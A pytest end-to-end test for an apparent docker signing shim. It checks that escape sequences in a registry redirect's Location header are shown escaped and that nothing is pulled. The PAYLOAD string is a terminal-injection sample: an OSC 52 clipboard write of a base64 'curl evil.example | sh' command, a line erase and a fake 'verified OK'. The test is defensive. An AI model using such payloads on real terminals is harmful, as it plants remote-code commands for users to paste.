"""A2-2: text a registry chose (a redirect's Location) reaches the terminal escaped, never
as control sequences; through the real shim and docker."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

from tests.e2e.conftest import ok

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.e2e.conftest import SafeDocker
    from tests.world import World

import pytest

# OSC 52 writes the clipboard in terminals that allow it; then erase the line, conceal
# the rest. (A C1 CSI is not UTF-8 in a header: tests/unit/oci/test_client.py.)
PAYLOAD = ("\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07"
           "\x1b[2K\x1b[1Gverified OK\x1b[8m")


@pytest.fixture
def redirecting() -> Iterator[str]:
    class Redirect(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            self.send_response(302)
            self.send_header("Location", "ftp://x/" + PAYLOAD)
            self.end_headers()

        do_HEAD = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_escape_sequences_in_a_redirect_location_are_shown_escaped_and_nothing_is_pulled(
        world: World, safe_docker: SafeDocker, redirecting: str) -> None:
    ok(safe_docker, "keys", "generate", "k", "--dir", str(safe_docker.home / "keys"))
    ok(safe_docker, "policy", "add", f"{redirecting}/*", "--key", "k")
    image = f"{redirecting}/x/app:v1"
    result = safe_docker("pull", image)
    assert result.exit_code == 77, result.stderr
    assert "\x1b" not in result.stderr and "\x9b" not in result.stderr, ascii(result.stderr)
    assert "\\x1b]52;c;" in result.stderr  # shown, so the user sees what was attempted
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert not world.has_image(image)
    audit = (safe_docker.state_dir / "audit.jsonl").read_text()
    assert "\x1b" not in audit and "\x9b" not in audit
